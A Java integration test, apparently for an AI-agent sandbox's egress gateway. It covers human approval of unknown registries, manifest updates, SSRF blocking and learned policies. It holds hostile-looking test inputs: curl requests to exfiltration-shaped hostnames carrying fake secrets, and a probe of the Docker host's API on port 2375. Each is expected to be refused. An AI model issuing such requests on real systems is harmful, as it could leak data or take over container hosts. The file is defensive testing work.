package dev.claudebottle.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.claudebottle.spi.testing.Await;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code egress.unknown: ask} with a real bottle and a real npm: an install from a registry the
 * manifest never named waits in the approval queue, and {@code bottle supervise approve} or
 * {@code deny} decides what npm gets. The registry is a container on the egress network.
 */
@Tag("docker")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EgressAskIT {
    private static final String EGRESS = "claude-bottle-ask-it-egress";
    /** A private network the registry joins too, as a name saved while public may later point into one. */
    private static final String PRIVATE = "claude-bottle-ask-it-private";
    private static final String REGISTRY = "claude-bottle-ask-it-registry";
    private static final ObjectMapper JSON = new ObjectMapper();
    Path work;
    Path home;

    @BeforeAll
    void registry(@TempDir Path temp) throws Exception {
        work = Files.createDirectories(temp.resolve("work"));
        home = Files.createDirectories(temp.resolve("home"));
        Files.writeString(work.resolve("bottle.yaml"), """
                version: 1
                bottles:
                  # a bottle that asks before it reaches a host nobody named
                  asking:
                    egress:
                      unknown: ask   # a person decides
                      ask_timeout: 2m
                  plain: {}
                agents:
                  asker:
                    bottle: asking
                    command: [bash]
                  learner:
                    bottle: plain
                    command: [bash]
                """);
        String agentImage = cli().agentImage();
        Docker.run("rm", "-f", REGISTRY);
        // The registry stands for a public one: its network is a bridge on this machine in the benchmarking
        // range (198.18.0.0/15, never routed outside a lab), which the gateway counts as public addresses,
        // as a person approving a public registry, and a learning bottle, see them.
        Docker.ensureNetwork(EGRESS, "198.18.7.0/24");
        Path script = Path.of(getClass().getResource("/npm-registry.js").toURI());
        Docker.run("run", "-d", "--name", REGISTRY, "--label", "claude-bottle-it=1", "--network", EGRESS,
                "--network-alias", "npm.test", "--network-alias", "npm-refused.test",
                "-v", script + ":/srv/npm-registry.js:ro", agentImage, "node", "/srv/npm-registry.js");
        Await.until(Duration.ofSeconds(60), () -> "the registry to be ready: " + Docker.run("logs", REGISTRY),
                () -> Docker.run("logs", REGISTRY).contains("registry ready"));
    }

    @AfterAll
    void cleanUp() throws Exception {
        Docker.run("rm", "-f", REGISTRY);
        Docker.run("network", "rm", EGRESS);
        if (!Docker.run("network", "ls", "-q", "--filter", "name=^" + PRIVATE + "$").isEmpty()) {
            Docker.run("network", "rm", PRIVATE);
        }
    }

    private CliHarness cli() {
        return new CliHarness(home, work).env("CLAUDE_BOTTLE_EGRESS_NETWORK", EGRESS);
    }

    private String registryLog() throws Exception {
        return Docker.run("exec", REGISTRY, "sh", "-c", "cat /tmp/requests.log 2>/dev/null || true");
    }

    private CompletableFuture<CliHarness.Result> npmInstall(String slug, String registry) {
        return CompletableFuture.supplyAsync(() -> cli().run("exec", slug, "--", "sh", "-c",
                "cd \"$(mktemp -d)\" && npm install --no-audit --no-fund --fetch-retries=0 --registry http://"
                        + registry + "/ left-pad 2>&1 && node -e \"console.log('[' + require('left-pad')('ok', 5, '.') + ']')\""));
    }

    /** Waits for the bottle's pending question about {@code host} and returns its id. */
    private String awaitQuestion(String slug, String host) throws Exception {
        return Await.value(Duration.ofSeconds(90), () -> "a question about " + host + ": "
                + cli().run("supervise", "ls", "--all").out(), () -> {
            for (JsonNode r : JSON.readTree(cli().run("supervise", "ls", "--json").out())) {
                if (r.get("slug").asText().equals(slug) && r.get("kind").asText().equals("egress")
                        && r.get("title").asText().contains(host + ":80")) {
                    return Optional.of(r.get("id").asText());
                }
            }
            return Optional.empty();
        });
    }

    @Test
    void anNpmInstallFromAnUndeclaredRegistryWaitsForAPersonAndSucceedsOnceApprovedOrFailsOnceRefused()
            throws Exception {
        var started = cli().run("start", "asker", "--detach");
        assertThat(started.exitCode()).as(started.err()).isZero();
        String slug = started.out().strip().lines().reduce((x, y) -> y).orElseThrow();
        try {
            String logBefore = registryLog();
            var install = npmInstall(slug, "npm.test");
            String id = awaitQuestion(slug, "npm.test");
            assertThat(install).as("npm waits while a person decides").isNotDone();
            assertThat(registryLog()).as("nothing reached the registry before the decision").isEqualTo(logBefore);

            String before = Files.readString(work.resolve("bottle.yaml"));
            var approved = cli().run("supervise", "approve", id, "--scope", "manifest");
            assertThat(approved.exitCode()).as(approved.err()).isZero();
            assertThat(approved.out()).contains("saved into " + work.resolve("bottle.yaml"))
                    .contains("asked by gateway, for manifest): GET npm.test:80/left-pad, resolves to 198.18.7.");
            String saved = Files.readString(work.resolve("bottle.yaml"));
            String added = "      allow:\n        - host: npm.test  # approved through bottle supervise (request " + id
                    + ")\n          ports: [80]\n          private: false  # public addresses only, as approved\n";
            assertThat(saved).contains(added);
            assertThat(saved.replace(added, "")).as("every other line, comments included, is as it was")
                    .isEqualTo(before);
            var plan = cli().run("plan", "asker");
            assertThat(plan.exitCode()).as("the saved manifest loads: " + plan.err()).isZero();
            var installed = install.get(3, TimeUnit.MINUTES);
            assertThat(installed.exitCode()).as(installed.all()).isZero();
            assertThat(installed.out()).contains("[...ok]");
            assertThat(registryLog().substring(logBefore.length())).contains("{\"host\":\"npm.test\",\"url\":\"/left-pad\"")
                    .contains("{\"host\":\"npm.test\",\"url\":\"/left-pad/-/left-pad-1.3.0.tgz\"");
            assertThat(JSON.readTree(cli().run("supervise", "ls", "--json", "--all").out()).findValuesAsText("kind"))
                    .as("the tarball and later requests to the granted registry asked nobody").containsOnlyOnce("egress");

            var refusedInstall = npmInstall(slug, "npm-refused.test");
            String refusedId = awaitQuestion(slug, "npm-refused.test");
            var denied = cli().run("supervise", "deny", refusedId, "--reason", "use the approved registry");
            assertThat(denied.exitCode()).as(denied.err()).isZero();
            var refused = refusedInstall.get(3, TimeUnit.MINUTES);
            assertThat(refused.exitCode()).as(refused.all()).isNotZero();
            assertThat(refused.out()).contains("403");
            assertThat(registryLog()).doesNotContain("npm-refused.test");
        } finally {
            cli().run("stop", slug);
        }
        // the next launch, where the saved host resolves into a private network: the grant stays public
        Docker.ensureNetwork(PRIVATE);
        Docker.run("network", "connect", "--alias", "npm.test", PRIVATE, REGISTRY);
        var next = cli().env("CLAUDE_BOTTLE_EGRESS_NETWORK", PRIVATE).run("start", "asker", "--detach");
        assertThat(next.exitCode()).as(next.err()).isZero();
        String rebound = next.out().strip().lines().reduce((x, y) -> y).orElseThrow();
        try {
            var reached = cli().env("CLAUDE_BOTTLE_EGRESS_NETWORK", PRIVATE).run("exec", rebound, "--", "curl", "-s",
                    "-D", "-", "-o", "/dev/null", "http://npm.test/left-pad");
            assertThat(reached.out()).as(reached.all()).startsWith("HTTP/1.1 403")
                    .contains("X-Claude-Bottle-Reason: ssrf");
        } finally {
            cli().env("CLAUDE_BOTTLE_EGRESS_NETWORK", PRIVATE).run("stop", rebound);
        }
    }

    @Test
    void namesAGuestBuildsToCarryDataAreNotLookedUpAndTheRestOnlyWithinABudget() throws Exception {
        var started = cli().run("start", "asker", "--detach");
        assertThat(started.exitCode()).as(started.err()).isZero();
        String slug = started.out().strip().lines().reduce((x, y) -> y).orElseThrow();
        try {
            List<String> carrying = List.of("mysecretpasswordishere.exfil.test", "deadbeefcafe0042.exfil.test",
                    "a.b.c.d.exfil.test", "x1234567.exfil.test");
            List<String> plausible = new java.util.ArrayList<>();
            for (char c = 'a'; c < 'a' + 15; c++) {
                plausible.add("name-" + c + ".nowhere.test");
            }
            String script = String.join(" ", java.util.stream.Stream.concat(carrying.stream(), plausible.stream())
                    .map(n -> "curl -s -o /dev/null -w '%{http_code}\\n' http://" + n + "/;").toList());
            var asked = cli().run("exec", slug, "--", "sh", "-c", script);
            assertThat(asked.out().lines().toList()).hasSize(19).containsOnly("403");

            List<String> refusals = new java.util.ArrayList<>();
            for (JsonNode line : JSON.readTree(cli().run("logs", slug, "--egress", "--json").out())) {
                if (line.path("decision").asText().equals("deny")) {
                    refusals.add(line.path("host").asText() + " " + line.path("reason").asText());
                }
            }
            for (String name : carrying) {
                // refused for its shape, by the gateway's DLP or before a lookup: nothing looked it up
                assertThat(refusals).as(name).anySatisfy(r -> assertThat(r).startsWith(name + " ")
                        .containsAnyOf("nothing was looked up", "exfil-shape"));
            }
            long lookedUp = refusals.stream().filter(r -> r.contains("does not resolve")).count();
            assertThat(lookedUp).as("names looked up: " + refusals).isBetween(1L, 10L);
            assertThat(refusals.stream().filter(r -> r.contains("new hosts a minute"))).isNotEmpty();
            assertThat(cli().run("supervise", "ls", "--json").out().strip()).isEqualTo("[ ]");
        } finally {
            cli().run("stop", slug);
        }
    }

    @Test
    void aLearnedPolicyAppliedLetsTheSameWorkloadPassAndRefusesAHostItNeverSaw() throws Exception {
        var learning = cli().run("start", "learner", "--learn", "--detach");
        assertThat(learning.exitCode()).as(learning.err()).isZero();
        assertThat(learning.err()).as("it says so loudly").contains("LEARNING");
        String slug = learning.out().strip().lines().reduce((x, y) -> y).orElseThrow();
        String proposed;
        try {
            var workload = npmInstall(slug, "npm.test").get(3, TimeUnit.MINUTES);
            assertThat(workload.exitCode()).as(workload.all()).isZero();
            // the Docker host, at the default bridge's gateway: a private address learning never reaches
            String[] bridge = Docker.run("network", "inspect", "bridge", "-f", "{{(index .IPAM.Config 0).Subnet}}")
                    .split("/")[0].split("\\.");
            String dockerHost = bridge[0] + "." + bridge[1] + "." + bridge[2] + ".1";
            var host = cli().run("exec", slug, "--", "curl", "-s", "-D", "-", "-o", "/dev/null",
                    "http://" + dockerHost + ":2375/version");
            assertThat(host.out()).as(host.all()).startsWith("HTTP/1.1 403").contains("X-Claude-Bottle-Reason: ssrf");
            var proposal = cli().run("policy", "propose", slug);
            assertThat(proposal.exitCode()).as(proposal.err()).isZero();
            proposed = proposal.out();
            var json = JSON.readTree(cli().run("policy", "propose", slug, "--json").out());
            assertThat(json.get("allow").findValuesAsText("host")).containsExactly("npm.test");
        } finally {
            cli().run("stop", slug);
        }
        assertThat(proposed).contains("- host: npm.test").contains("ports: [80]").contains("methods: [GET]")
                .contains("paths: [\"/left-pad\"]").contains("private: false");

        Path applied = work.resolve("learned.yaml");
        Files.writeString(applied, "version: 1\nbottles:\n  learned:\n" + proposed.lines()
                .map(l -> "    " + l).reduce("", (a, b) -> a + b + "\n") + "agents:\n  learned:\n    bottle: learned\n"
                + "    command: [bash]\n");
        var started = cli().run("start", "learned", "-f", applied.toString(), "--detach");
        assertThat(started.exitCode()).as(started.err()).isZero();
        String learned = started.out().strip().lines().reduce((x, y) -> y).orElseThrow();
        try {
            var again = npmInstall(learned, "npm.test").get(3, TimeUnit.MINUTES);
            assertThat(again.exitCode()).as("the same workload passes: " + again.all()).isZero();
            var unseen = cli().run("exec", learned, "--", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                    "http://npm-refused.test/left-pad");
            assertThat(unseen.out()).as("a host it never saw").isEqualTo("403");
        } finally {
            cli().run("stop", learned);
        }
    }
}
